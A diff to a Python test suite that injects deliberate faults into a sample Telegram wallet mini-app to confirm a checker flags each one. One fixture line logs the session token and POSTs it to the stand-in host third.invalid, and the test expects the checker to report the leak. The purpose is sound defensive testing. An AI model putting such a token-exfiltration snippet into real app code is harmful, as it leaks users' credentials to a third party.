@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import re
 import zipfile
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
@@ -22,14 +23,11 @@ async def test_the_sample_app_goes_through_the_steps(stage: Stage, tmp_path: Pat
     """And neither the report nor the trace tells the token or the launch."""
     trace = tmp_path / "trace.zip"
     usual = [step.id for step in CATALOGUE if step.id not in ("D1.users", "D1.nft")]
-    relay = {"relay_project": SecretStr("a-project-for-tests")}
-    report = await driven(stage, *usual, trace=trace, negative=True, settings=relay)
+    report = await driven(stage, *usual, trace=trace, negative=True)
     assert failed(report) == {}
     skipped = {step.id for step in report.steps if step.verdict is Verdict.SKIPPED}
     over_walletconnect = {step.id for step in CATALOGUE if "walletconnect" in step.id}
     assert skipped == {"W3", "X1", "X2", "D1.teams", "D1.referral", "S2", *over_walletconnect}
-    link = report["W1.walletconnect"].cause
-    assert link == "the app opens no WalletConnect link; it tells: wallet: there is no wallet in this browser"
     assert report.exit_code == 0
     assert "android: works; ios: works; tdesktop: warns" in report["T2"].cause
     assert report["X3"].cause.startswith("1 login after the 401")
@@ -42,102 +40,117 @@ async def test_the_sample_app_goes_through_the_steps(stage: Stage, tmp_path: Pat
 
 
 @pytest.mark.slow
-async def test_the_sample_app_copes_with_every_service_down(stage: Stage) -> None:
-    report = await driven(stage, "D1")
-    assert failed(report) == {}
-    assert report["D1.users"].verdict is report["D1.nft"].verdict is Verdict.UNVERIFIED
+async def test_an_app_that_opens_no_link_is_told_so(stage: Stage) -> None:
+    relay = {"relay_project": SecretStr("a-project-for-tests")}
+    report = await driven(stage, "W1.walletconnect", settings=relay)
+    assert report["W1.walletconnect"].verdict is Verdict.SKIPPED
+    link = report["W1.walletconnect"].cause
+    assert link == "the app opens no WalletConnect link; it tells: wallet: there is no wallet in this browser"
+
+
+@dataclass(frozen=True)
+class Broken:
+    """An app that is broken by other texts in its script, and what is told of it, by the step's id. `steps`
+    are those to be made beside."""
+
+    changes: dict[str, str]
+    told: dict[str, tuple[str, ...]]
+    start_param: str | None = "friend"
+    steps: tuple[str, ...] = ()
 
 
 GATE = "element(state === 'gated' ? 'gate' : 'app').hidden = false;"
 BEGIN = "await Promise.all([signIn(), showLeaderboard(), meetConnectedWallet()]);"
+TELL = "tell(what, problem.message || String(problem));"
+LEAK = "console.log(session.token); fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(tell);"
 BROKEN = {
-    "init data changed": (
-        {"telegramSimpleString: rawInitData": "telegramSimpleString: `${rawInitData}&x=1`"},
-        ["L1.app", "L1"],
-        ("L1.app", "byte for byte"),
+    "says what its launch does not": Broken(
+        {
+            "telegramSimpleString: rawInitData": "telegramSimpleString: `${rawInitData}&x=1`",
+            "initData.get('start_param') || undefined": "'friend'",
+        },
+        {"L1.app": ("byte for byte",), "T3": ("no start parameter",)},
+        start_param=None,
+        steps=("L1",),
     ),
-    "start parameter dropped": (
-        {"        referralCode,\n": ""},
-        ["T3"],
-        ("T3", "does not reach the login"),
-    ),
-    "blank on desktops": (
-        {GATE: f"if (state === 'gated') document.body.replaceChildren(); else {GATE}"},
-        ["T2"],
-        ("T2", "on tdesktop the page stays blank"),
-    ),
-    "a loop on 401": (
-        {"problem.status !== 401 || !again": "problem.status !== 401"},
-        ["X3"],
-        ("X3", "a loop"),
-    ),
-    "token in the console": (
-        {"know(account);\n": "know(account); console.log(session.token);\n"},
-        ["S1"],
-        ("S1", "in the console"),
-    ),
-    "another text signed": (
-        {"`Request ID ${hash}`": "`Request ID: ${hash}`"},
-        ["W2"],
-        ("W2.app", "five lines"),
+    "wrong in five ways": Broken(
+        {
+            "        referralCode,\n": "",
+            "know(account);\n": f"know(account); {LEAK}\n",
+            "`Request ID ${hash}`": "`Request ID A-HASH-OF-ITS-OWN`",
+            TELL: f"if (problem.code !== 4001) {TELL}",
+            "problem.status !== 401 || !again": "problem.status !== 401",
+        },
+        {
+            "T3": ("does not reach the login",),
+            "S1": ("in the console", "goes to third.invalid"),
+            "W2.app": ("another hash than Metapro issued",),
+            "W4.rejected": ("says nothing about a refused signature",),
+            "X3": ("a loop",),
+        },
     ),
 }
 SLOWLY_BROKEN = {
-    "deaf to the wallet": (
-        {"provider.on?.('accountsChanged'": "void ('accountsChanged'"},
-        ["W4.account"],
-        ("W4.account", "old account"),
+    "blank on desktops": Broken(
+        {GATE: f"if (state === 'gated') document.body.replaceChildren(); else {GATE}"},
+        {"T2": ("on tdesktop the page stays blank",)},
     ),
-    "silent about faults": (
-        {"items('error', [...problems.values()]);": ""},
-        ["D1.leaderboard"],
-        ("D1.leaderboard", "tells nothing"),
+    "another text signed": Broken(
+        {"`Request ID ${hash}`": "`Request ID: ${hash}`"}, {"W2.app": ("five lines",)}
     ),
-    "login behind the leaderboard": (
-        {BEGIN: "await showLeaderboard(); if (!problems.size) await signIn();"},
-        ["D2"],
-        ("D2", "does not log in"),
+    "deaf to the wallet": Broken(
+        {"provider.on?.('accountsChanged'": "void ('accountsChanged'"}, {"W4.account": ("old account",)}
+    ),
+    "silent about faults": Broken(
+        {"items('error', [...problems.values()]);": ""}, {"D1.leaderboard": ("tells nothing",)}
+    ),
+    "login behind the leaderboard": Broken(
+        {BEGIN: "await showLeaderboard(); if (!problems.size) await signIn();"}, {"D2": ("does not log in",)}
     ),
 }
 
 
 @pytest.mark.parametrize(
-    ("broken", "steps", "expected"),
+    "broken",
     [
-        *(pytest.param(*case, id=name) for name, case in BROKEN.items()),
-        *(pytest.param(*case, id=name, marks=pytest.mark.slow) for name, case in SLOWLY_BROKEN.items()),
+        *(pytest.param(case, id=name) for name, case in BROKEN.items()),
+        *(pytest.param(case, id=name, marks=pytest.mark.slow) for name, case in SLOWLY_BROKEN.items()),
     ],
 )
-async def test_a_broken_app_fails_at_its_step(
-    stage: Stage, broken: dict[str, str], steps: list[str], expected: tuple[str, str]
-) -> None:
-    step, words = expected
-    report = await driven(stage, *steps, broken=broken, screen=Screen(seconds=4.0))
-    assert failed(report).keys() == {step}
-    assert words in report[step].cause
-    assert report[step].remedy
+async def test_each_fault_of_an_app_fails_its_own_step(stage: Stage, broken: Broken) -> None:
+    report = await driven(
+        stage, *broken.told, *broken.steps, broken=broken.changes, start_param=broken.start_param,
+        screen=Screen(seconds=4.0),
+    )  # fmt: skip
+    assert failed(report).keys() == broken.told.keys()
+    untold = [
+        (step, text)
+        for step, texts in broken.told.items()
+        for text in texts
+        if text not in report[step].cause
+    ]
+    assert untold == []
+    assert [step for step in broken.told if not report[step].remedy] == []
     assert report.exit_code == 1
 
 
-async def test_a_token_that_the_app_shows_is_struck_out_before_its_words_are_cut_short(stage: Stage) -> None:
-    telling = {"`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`"}
-    report = await driven(stage, "X3", broken=telling)
-    told = json.dumps(report.to_json())
-    assert "then it tells: ......" in report["X3"].cause
-    assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []
-
-
-@pytest.mark.slow
-async def test_an_app_that_sends_its_token_in_another_way_is_told_so(stage: Stage) -> None:
-    other = {"authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`"}
-    early = {BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN}
-    report = await driven(stage, "X3", broken=other | early)
+async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -> None:
+    """It sends it before it has one, in another way, and shows it: that is struck out, and cut short then."""
+    careless = {
+        "authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`",
+        BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN,
+        "`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`",
+    }
+    report = await driven(stage, "X3", broken=careless)
     assert "before it logs in" in report["L1.app"].warnings[0]
     for step in ("L1.app", "X3"):
         assert report[step].warnings[-2:] == (
             "the app sends its token after Bearer, not as configured",
             "the app sends its token without x-account-userid",
         )
+    told = json.dumps(report.to_json())
+    assert "then it tells: ......" in report["X3"].cause
+    assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []
 
 
 ON_LOAD = {
@@ -166,16 +179,3 @@ async def test_what_an_app_attaches_on_its_own_is_not_written_unless_allowed(
 
 def _alice(stage: Stage) -> int:
     return stage.sandbox.world.user("alice").id
-
-
-async def test_a_key_in_the_page_is_a_warning(stage: Stage) -> None:
-    report = await driven(stage, "B3", switches={"page_has_leaderboard_key": True})
-    assert report["B3"].verdict is Verdict.PASS
-    assert len(report["B3"].warnings) == 2
-    assert report.exit_code == 0
-
-
-async def test_a_service_that_pages_may_not_read_fails_the_apps_login_alone(stage: Stage) -> None:
-    report = await driven(stage, "L1", switches={"cors": False})
-    assert failed(report).keys() == {"L1.app"}
-    assert report["L1"].verdict is Verdict.UNVERIFIED
